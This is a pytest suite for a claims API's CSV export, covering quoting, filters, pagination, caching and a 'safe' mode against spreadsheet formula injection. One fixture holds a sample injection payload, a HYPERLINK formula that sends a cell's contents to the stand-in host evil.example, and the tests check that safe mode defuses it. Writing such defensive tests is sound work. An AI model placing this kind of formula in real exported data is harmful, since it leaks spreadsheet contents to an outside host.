"""`GET /v1/claims.csv`: the claim list for spreadsheets, every matching row, quoted properly."""

from __future__ import annotations

import csv
import io

import pytest

from claims.interop import csvout
from tests.conftest import EVIDENCE


def parse(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))


def as_cells(claim: dict) -> dict[str, str]:
    """A JSON list item written the way the CSV writes it."""
    return {name: csvout.cell(claim[name]) for name in csvout.COLUMNS}


@pytest.fixture
def awkward_claims(make_claim):
    """Claims whose text needs quoting: commas, double quotes, line breaks, non-ASCII."""
    return [
        make_claim(statement='He said "yes", then left', quote="Line one,\nline two"),
        make_claim(statement="Tariffs; rare earths – “soon”", topics=["tariffs", "rare-earths"]),
        make_claim(statement="No deadline at all", due_by=None, claimant_role=None),
    ]


def test_csv_parses_back_to_the_rows_of_the_json_list(client, awkward_claims):
    listed = client.get("/v1/claims?limit=200").json()["items"]

    rows = parse(client.get("/v1/claims.csv"))

    assert rows == [as_cells(item) for item in listed]


def test_csv_header_is_the_public_claim_fields_in_order(client, awkward_claims):
    response = client.get("/v1/claims.csv")

    header = next(csv.reader(io.StringIO(response.text)))

    assert header == list(client.get("/v1/claims").json()["items"][0])


def test_csv_quotes_commas_quotes_and_line_breaks(client, awkward_claims):
    text = client.get("/v1/claims.csv").text

    assert '"He said ""yes"", then left"' in text
    assert '"Line one,\nline two"' in text
    assert "\r\n" in text


def test_csv_is_served_as_a_utf8_csv_download(client, awkward_claims):
    response = client.get("/v1/claims.csv")

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="claims.csv"'


def test_claims_csv_is_not_read_as_a_claim_id_or_slug(client, make_claim):
    make_claim(slug="claims-csv")

    response = client.get("/v1/claims.csv")

    assert response.headers["content-type"].startswith("text/csv")
    assert parse(response)[0]["slug"] == "claims-csv"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("status=fulfilled", ["verdict"]),
        ("status=open", ["open-1", "open-2"]),
        ("topic=diplomacy", ["open-2"]),
        ("q=verdict", ["verdict"]),
        ("sort=-id", ["verdict", "open-2", "open-1"]),
    ],
)
def test_csv_applies_the_same_filters_and_sort_as_the_list(
    client, make_claim, editor, query, expected
):
    make_claim(slug="open-1", statement="First open one")
    make_claim(slug="open-2", statement="Second open one", topics=["diplomacy"])
    done = make_claim(slug="verdict", statement="A verdict here")
    client.post(
        f"/v1/claims/{done.id}/status",
        json={"status": "fulfilled", "note": "done", "evidence": [EVIDENCE]},
        headers={**editor, "If-Match": done.etag},
    )

    rows = parse(client.get(f"/v1/claims.csv?{query}"))

    assert [row["slug"] for row in rows] == expected
    assert rows == [
        as_cells(item) for item in client.get(f"/v1/claims?{query}&limit=200").json()["items"]
    ]


def test_csv_holds_every_matching_claim_not_one_page(client, make_claim, monkeypatch):
    monkeypatch.setattr(csvout, "_PAGE", 2)
    made = [make_claim(due_by=f"2025-12-{day:02d}") for day in (5, 1, 3, 2, 4)]
    make_claim(due_by=None)

    rows = parse(client.get("/v1/claims.csv?limit=1"))

    assert len(rows) == len(made) + 1
    assert [row["due_by"] for row in rows] == [
        "2025-12-01",
        "2025-12-02",
        "2025-12-03",
        "2025-12-04",
        "2025-12-05",
        "",
    ]


def test_csv_with_an_invalid_filter_is_a_422_problem(client):
    response = client.get("/v1/claims.csv?status=maybe")

    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["errors"][0]["field"] == "status"


def test_csv_answers_304_until_something_changes(client, make_claim):
    make_claim()
    first = client.get("/v1/claims.csv")

    unchanged = client.get("/v1/claims.csv", headers={"If-None-Match": first.headers["ETag"]})
    make_claim()
    changed = client.get("/v1/claims.csv", headers={"If-None-Match": first.headers["ETag"]})

    assert unchanged.status_code == 304
    assert changed.status_code == 200
    assert len(parse(changed)) == 2


def test_csv_of_no_claims_is_just_the_header(client):
    response = client.get("/v1/claims.csv")

    assert response.text == ",".join(csvout.COLUMNS) + "\r\n"


@pytest.fixture
def formula_claims(make_claim):
    """Claims whose text a spreadsheet would run as formulas."""
    return [
        make_claim(
            statement='=HYPERLINK("http://evil.example/?"&B2, "source")',
            quote="+1 more tariff",
            claimant="@bessent",
            claimant_role="-official",
        ),
        make_claim(statement="Plain statement = no formula", claimant="Scott Bessent"),
    ]


def test_safe_csv_prefixes_cells_that_start_like_a_formula(client, formula_claims):
    rows = parse(client.get("/v1/claims.csv?safe=true&sort=id"))

    assert rows[0]["statement"] == "'=HYPERLINK(\"http://evil.example/?\"&B2, \"source\")"
    assert (rows[0]["quote"], rows[0]["claimant"]) == ("'+1 more tariff", "'@bessent")
    assert rows[0]["claimant_role"] == "'-official"
    assert rows[1]["statement"] == "Plain statement = no formula"
    assert rows[1]["due_by"] == "2025-12-31"


def test_csv_without_safe_keeps_formula_cells_exact(client, formula_claims):
    rows = parse(client.get("/v1/claims.csv?sort=id"))

    assert rows[0]["statement"] == '=HYPERLINK("http://evil.example/?"&B2, "source")'
    assert rows[0]["claimant"] == "@bessent"


def test_safe_csv_has_its_own_etag(client, formula_claims):
    exact = client.get("/v1/claims.csv")
    safe = client.get("/v1/claims.csv?safe=true")

    assert exact.headers["etag"] != safe.headers["etag"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_safe_mode_defuses_every_formula_start(text):
    assert csvout.defused(text) == "'" + text


@pytest.mark.parametrize("text", ["", "a=1", " =1", "'=1", "2025-10-30"])
def test_safe_mode_leaves_other_cells_alone(text):
    assert csvout.defused(text) == text
